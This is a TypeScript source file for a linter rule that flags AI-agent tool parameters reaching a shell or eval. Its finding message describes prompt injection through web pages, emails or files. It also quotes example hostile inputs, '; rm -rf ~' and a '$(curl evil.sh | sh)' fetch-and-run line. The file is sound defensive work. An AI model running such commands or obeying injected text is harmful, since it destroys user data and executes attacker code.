import type { CallFact, ToolDefinition } from '../analysis/model';
import type { Rule, RuleFinding } from './types';
import { finding } from './util/finding';

/** Callees that always go through a shell or an interpreter. */
const TS_ALWAYS = /^((node:)?child_process\.|cp\.)?(exec|execSync)$|^(eval|Function|new Function|vm\.runIn\w+|vm\.Script)$/;
const TS_WITH_SHELL = /^((node:)?child_process\.|cp\.)?(spawn|spawnSync|execFile|execFileSync|fork)$|^(execa|execaSync|execa\.command)$/;
const PY_ALWAYS = /^(os\.system|os\.popen|os\.exec\w*|subprocess\.getoutput|subprocess\.getstatusoutput|commands\.\w+|asyncio\.create_subprocess_shell|eval|exec|pty\.spawn)$/;
const PY_WITH_SHELL = /^(subprocess\.\w+|asyncio\.create_subprocess_exec)$/;

function reachesShell(tool: ToolDefinition, c: CallFact): boolean {
  if (tool.language === 'python') return PY_ALWAYS.test(c.callee) || (c.shell && PY_WITH_SHELL.test(c.callee));
  return TS_ALWAYS.test(c.callee) || (c.shell && TS_WITH_SHELL.test(c.callee));
}

export const commandInjection: Rule = {
  id: 'command-injection',
  defaultSeverity: 'error',
  languages: ['typescript', 'python'],
  summary: 'A parameter reaches a shell or an interpreter (exec, shell: true, shell=True, os.system, eval).',
  checkTool(tool: ToolDefinition) {
    const out: RuleFinding[] = [];
    for (const c of tool.handler?.calls ?? []) {
      if (c.paramsInArgs.length === 0 || !reachesShell(tool, c)) continue;
      const params = c.paramsInArgs.map((p) => `\`${p}\``).join(', ');
      const py = tool.language === 'python';
      const interp = py && /^(eval|exec)$/.test(c.callee) ? 'the Python interpreter' : !py && /^(eval|Function|new Function|vm\.)/.test(c.callee) ? 'the JavaScript interpreter' : 'a shell';
      out.push(
        finding(
          tool,
          c.span,
          `${params} reaches ${interp} through ${c.callee}: the model fills that value, and anything it read (a web page, an email, a file) ` +
            'can steer it into `; rm -rf ~` or `$(curl evil.sh | sh)`. ' +
            (py
              ? 'Pass an argument list without a shell (`subprocess.run(["git", "log", ref], shell=False)`), validate the value against an allow-list, and never eval it.'
              : 'Use execFile/spawn with an argument array and no shell (`execFile("git", ["log", ref])`), validate the value against an allow-list, and never eval it.'),
        ),
      );
    }
    return out;
  },
};
